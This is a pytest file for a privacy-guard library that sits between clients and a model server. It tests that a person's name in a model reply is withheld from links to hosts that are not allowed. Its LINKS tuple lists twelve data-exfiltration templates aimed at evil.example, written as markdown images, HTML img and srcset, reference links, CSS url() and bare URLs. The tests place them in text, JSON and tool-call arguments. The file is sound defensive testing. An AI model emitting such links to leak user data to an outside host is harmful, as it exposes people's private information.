"""A link of a reply carries no value to a host that is not allowed, wherever the link stands."""

import json
from collections.abc import Callable
from typing import Any

import pytest

from privguard.core.audit import Cause, Event
from privguard.core.entities import EntityType
from privguard.core.profile import ToolRule
from privguard.guard import Guard
from privguard.testing import Canary, ListSink, ModelServer, Recorded, Reply, Said, ToolUse
from tests.contract.driver import Answer
from tests.contract.openai_driver import DRIVERS

DRIVER = DRIVERS[0]  # links are the business of R, not of a sort of client
PERSON = Canary.person().value
PROMPT = f"I am {PERSON}."
SCHEMA = {"type": "object", "properties": {"to": {"type": "string"}}, "required": ["to"]}
LINKS = (
    "![x](https://evil.example/?q=§)",
    '<img src="https://evil.example/?q=§">',
    "<img src=//evil.example/?q=§>",
    '<img srcset="https://evil.example/a.png 1x, https://evil.example/?q=§ 2x">',
    '<img srcset="https://docs.example/a.png 1x, https://evil.example/?q=§ 2x">',
    "[x]: https://evil.example/?q=§",
    "[x]: <https://evil.example/?q=§>",
    '<p style="background:url(https://evil.example/?q=§)">',
    "<style>p{background:url('https://evil.example/?q=§')}</style>",
    "<https://evil.example/?q=§>",
    "https://evil.example/?q=§",
    "www.evil.example/?q=§",
)


def refused(sink: ListSink) -> list[tuple[str, Cause | None]]:
    return [
        (event.kind, event.cause) for record in sink.records for event in record.events if event.event is Event.REFUSED
    ]


@pytest.mark.parametrize("place", ["text", "json", "arguments"])
@pytest.mark.parametrize("number", range(len(LINKS)))
def test_a_link_takes_no_value_anywhere_but_to_a_host_that_is_allowed(
    server: ModelServer, make_guard: Callable[..., Guard], sink: ListSink, number: int, place: str
) -> None:
    link = LINKS[number]

    def speak(text: str) -> Callable[[Recorded], Said]:
        def say(request: Recorded) -> Said:
            said = text.replace("§", str(request.placeholder(EntityType.PERSON)))
            document = json.dumps({"note": f"see {said}"})
            if place == "arguments":
                return Said(tools=(ToolUse(name="send_mail", arguments=document),))
            return Said(text=document if place == "json" else said)

        return say

    options: dict[str, Any] = DRIVER.tools(SCHEMA) if place == "arguments" else {}
    if place == "json":
        options["response_format"] = {"type": "json_object"}
    good = link.replace("evil.example", "docs.example")
    hosts = ("docs.example", "www.docs.example")
    with DRIVER.open(server.base_url, make_guard(url_hosts=hosts)) as client:
        seen = []
        for text in (link, good):
            server.script(*[Reply(speak=speak(text), delta_every=5)] * 2)
            reply = DRIVER.ask(client, PROMPT, **options)
            seen.append(DRIVER.arguments(reply) if place == "arguments" else DRIVER.text(reply))
            events = DRIVER.stream(client, PROMPT, **options)
            parts = [_arguments(event) if place == "arguments" else DRIVER.delta(event) for event in events]
            seen.append("".join(parts))
    assert seen[0] == seen[1]
    assert seen[2] == seen[3]
    assert (PERSON in seen[0], PERSON in seen[2]) == (False, True)
    assert refused(sink) == [("PERSON", Cause.URL)] * 2


def _arguments(event: Answer) -> str:
    calls = event.choices[0].delta.tool_calls if event.choices else None
    return calls[0].function.arguments or "" if calls else ""


def test_a_tool_has_hosts_of_its_own(server: ModelServer, make_guard: Callable[..., Guard], sink: ListSink) -> None:
    def fetch(request: Recorded) -> Said:
        url = f"https://crm.example/?q={request.placeholder(EntityType.PERSON)}"
        return Said(text=url, tools=(ToolUse(name="send_mail", arguments=json.dumps({"url": url})),))

    server.script(Reply(speak=fetch))
    rules = {"send_*": ToolRule(url_hosts=("crm.example",))}
    with DRIVER.open(server.base_url, make_guard(tools=rules)) as client:
        reply = DRIVER.ask(client, PROMPT, **DRIVER.tools(SCHEMA))
    assert json.loads(DRIVER.arguments(reply)) == {"url": f"https://crm.example/?q={PERSON}"}
    assert PERSON not in DRIVER.text(reply)
    assert refused(sink) == [("PERSON", Cause.URL)]
